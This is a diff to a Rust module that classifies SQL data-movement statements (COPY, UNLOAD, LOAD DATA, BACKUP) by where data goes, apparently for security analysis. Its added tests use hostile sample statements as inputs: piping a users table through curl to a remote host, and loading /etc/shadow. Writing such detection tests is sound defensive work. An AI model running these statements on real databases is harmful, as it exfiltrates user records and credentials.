@@ -1,5 +1,6 @@
 //! Data in and out of the server: COPY, UNLOAD, LOAD DATA, stages, backups, attached files.
 
+use crate::classify::command::Stream;
 use crate::model::{Area, CodeOrigin, Effect, Extent, Operation, Resource, ResourceKind, Span, Zone};
 
 use super::cursor::{Cursor, Name};
@@ -30,8 +31,8 @@ pub(super) fn run(run: &mut Run<'_, '_, '_>, here: Cursor<'_>, verb: &str) -> bo
             let Some(to) = cursor.find("TO") else { return false };
             cursor.at = to + 1;
             let target = target(&mut cursor);
-            let what = read_since(run, mark);
-            export(run, what, Extent::All, "UNLOAD", span, zone_of(&target), target);
+            let (what, extent) = read_since(run, mark);
+            export(run, what, extent, "UNLOAD", span, zone_of(&target), target);
             true
         }
         "EXPORT" => {
@@ -56,13 +57,15 @@ pub(super) fn run(run: &mut Run<'_, '_, '_>, here: Cursor<'_>, verb: &str) -> bo
             if let Some(at) = cursor.find_flat(&["AS"]) {
                 statement::run(run, &cursor.tokens[at + 1..]);
             }
-            let what = read_since(run, mark);
-            export(run, what, Extent::All, "EXPORT DATA", span, zone_of(&peer), peer);
+            let (what, extent) = read_since(run, mark);
+            export(run, what, extent, "EXPORT DATA", span, zone_of(&peer), peer);
             true
         }
         "IMPORT" => {
             if cursor.eat("FOREIGN SCHEMA") {
-                let schema = cursor.name().unwrap_or_default();
+                let server =
+                    cursor.find("SERVER").and_then(|at| Cursor { at: at + 1, ..cursor }.name()).unwrap_or_default();
+
                 let into =
                     cursor.find("INTO").and_then(|at| Cursor { at: at + 1, ..cursor }.name()).unwrap_or_default();
                 run.note(
@@ -72,7 +75,7 @@ pub(super) fn run(run: &mut Run<'_, '_, '_>, here: Cursor<'_>, verb: &str) -> bo
                     Extent::Some,
                     "IMPORT FOREIGN SCHEMA",
                 );
-                fetch(run, &schema.text, "IMPORT FOREIGN SCHEMA", span);
+                fetch(run, &server.text, "IMPORT FOREIGN SCHEMA", span);
                 return true;
             }
             let into = cursor.find("INTO").and_then(|at| Cursor { at: at + 1, ..cursor }.name());
@@ -180,14 +183,14 @@ pub(super) fn zone_of(target: &str) -> Zone {
     }
 }
 
-/// The table that was read since `mark`, as what leaves.
-fn read_since(run: &mut Run<'_, '_, '_>, mark: usize) -> Resource {
-    let read = run
-        .scene
-        .since(mark)
-        .iter()
-        .find(|effect| effect.operation == Operation::Read && effect.resource.kind == ResourceKind::Table);
-    read.map_or_else(|| Resource::new(ResourceKind::Table, ""), |effect| effect.resource.clone())
+/// The table that was read since `mark`, as what leaves, and how much of it.
+fn read_since(run: &mut Run<'_, '_, '_>, mark: usize) -> (Resource, Extent) {
+    let is_read =
+        |effect: &&mut Effect| effect.operation == Operation::Read && effect.resource.kind == ResourceKind::Table;
+    match run.scene.since(mark).iter_mut().find(is_read) {
+        Some(effect) => (effect.resource.clone(), effect.extent),
+        None => (Resource::new(ResourceKind::Table, ""), Extent::Unknown),
+    }
 }
 
 /// Where to or from: a string, or an unquoted stage or address up to the next space.
@@ -212,13 +215,13 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     }
     cursor.eat("BINARY");
     let mark = run.scene.mark();
-    let resource = if cursor.sees_punct("(") {
+    let (resource, extent) = if cursor.sees_punct("(") {
         let inner = cursor.brackets().unwrap_or_default();
         statement::run(run, inner);
         read_since(run, mark)
     } else {
         let Some(name) = cursor.name() else { return false };
-        run.resource(ResourceKind::Table, &name)
+        (run.resource(ResourceKind::Table, &name), Extent::All)
     };
     cursor.brackets();
     let out = cursor.sees("TO");
@@ -227,9 +230,11 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     }
     if cursor.eat("PROGRAM") {
         let (code, at) = cursor.string().unwrap_or_else(|| (String::new(), span.unwrap_or(Span::new(0, 0))));
+        let carries = if out { vec![resource.clone()] } else { Vec::new() };
+        let stdin = Stream { connected: out, carries, ..Stream::default() };
         if out {
             let peer = code.clone();
-            run.put(Operation::Export, resource, Extent::All, "COPY TO PROGRAM", span, |effect| {
+            run.put(Operation::Export, resource, extent, "COPY TO PROGRAM", span, |effect| {
                 effect.zone = Some(if reaches_out(&peer) { Zone::External } else { Zone::Unknown });
                 effect.peer = Some(peer);
             });
@@ -246,14 +251,13 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
                 effect.code = Some(CodeOrigin::Local);
             },
         );
-        run.shell(&code, at);
+        run.shell_reading(&code, at, stdin);
         return true;
     }
     if cursor.eat_any(&["STDOUT", "STDIN", "PSTDOUT", "PSTDIN"]) {
-        if out {
-            let extent = if run.scene.mark() > mark { Extent::Some } else { Extent::All };
+        if out && run.scene.mark() == mark {
             run.put(Operation::Read, resource, extent, "COPY", span, |_| {});
-        } else {
+        } else if !out {
             run.put(Operation::Update, resource, Extent::Some, "COPY", span, |_| {});
         }
         return true;
@@ -267,7 +271,7 @@ fn copy(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     let at = cursor.at;
     let place = target(&mut cursor);
     if out {
-        export(run, resource, Extent::All, "COPY TO", span, zone_of(&place), place);
+        export(run, resource, extent, "COPY TO", span, zone_of(&place), place);
     } else {
         run.put(Operation::Update, resource, Extent::Some, "COPY FROM", span, |_| {});
         reads_file(run, &place, "COPY FROM", cursor.span_from(at));
@@ -289,16 +293,16 @@ fn copy_into(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     if to_place {
         let place = target(&mut cursor);
         let mark = run.scene.mark();
-        let mut resource = Resource::new(ResourceKind::Table, "");
+        let (mut resource, mut extent) = (Resource::new(ResourceKind::Table, ""), Extent::All);
         if cursor.eat("FROM") {
             if let Some(inner) = cursor.brackets() {
                 statement::run(run, inner);
-                resource = read_since(run, mark);
+                (resource, extent) = read_since(run, mark);
             } else if let Some(name) = cursor.name() {
                 resource = run.resource(ResourceKind::Table, &name);
             }
         }
-        export(run, resource, Extent::All, "COPY INTO", span, zone_of(&place), place);
+        export(run, resource, extent, "COPY INTO", span, zone_of(&place), place);
         return true;
     }
     let Some(name) = cursor.name() else { return false };
@@ -334,7 +338,7 @@ fn load(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
     let span = cursor.span();
     if cursor.eat_any(&["DATA", "XML"]) {
         let overwrites = cursor.has("OVERWRITE");
-        let client = cursor.has("LOCAL");
+
         let file = (Cursor { ..cursor }).next_string();
         let uri = cursor.find("URIS").and_then(|at| Cursor { at, ..cursor }.next_string());
         let found = cursor
@@ -347,7 +351,6 @@ fn load(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>) -> bool {
         let resource = run.resource(ResourceKind::Table, &name);
         run.put(Operation::Update, resource, extent, "LOAD DATA", span, |_| {});
         if let Some((file, at)) = uri.or(file) {
-            let _ = client;
             reads_file(run, &file, "LOAD DATA", Some(at));
         }
         return true;
@@ -445,4 +448,45 @@ fn attach(run: &mut Run<'_, '_, '_>, mut cursor: Cursor<'_>, verb: &str) -> bool
         run.put(Operation::Connect, Resource::new(ResourceKind::Database, text), Extent::One, "ATTACH", span, |_| {});
     }
     true
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::classify::sql::tests::check;
+
+    #[test]
+    fn data_that_leaves_says_where_to() {
+        check(
+            "postgres",
+            "COPY users TO PROGRAM 'curl -d @- https://example.com'",
+            "export Table users (all, external curl -d @- https://example.com)\nexecute Code curl -d @- https://example.com (one, local code)\nexport Table users (all, external example.com, host example.com)",
+        );
+        check(
+            "postgres",
+            "COPY (SELECT * FROM users WHERE id = 1) TO '/tmp/u.csv'",
+            "read Table users (one)\nexport Table users (one, local /tmp/u.csv)",
+        );
+        check("postgres", "COPY users TO STDOUT", "read Table users (all)");
+        check("snowflake", "COPY INTO @exports/u FROM users", "export Table users (all, private @exports/u)");
+        check(
+            "snowflake",
+            "PUT file:///tmp/u.csv @exports",
+            "export File /tmp/u.csv (all, private @exports, temporary)",
+        );
+        check(
+            "redshift",
+            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/u'",
+            "read Table users (all)\nexport Table users (all, external s3://bucket/u)",
+        );
+        check(
+            "mysql",
+            "LOAD DATA INFILE '/etc/shadow' INTO TABLE notes",
+            "update Table notes (some)\nread File /etc/shadow (all, system, credential)",
+        );
+        check(
+            "tsql",
+            "BACKUP DATABASE shop TO DISK = '\\\\other\\share\\shop.bak'",
+            "export Database shop (all, external \\\\other\\share\\shop.bak)",
+        );
+    }
 }
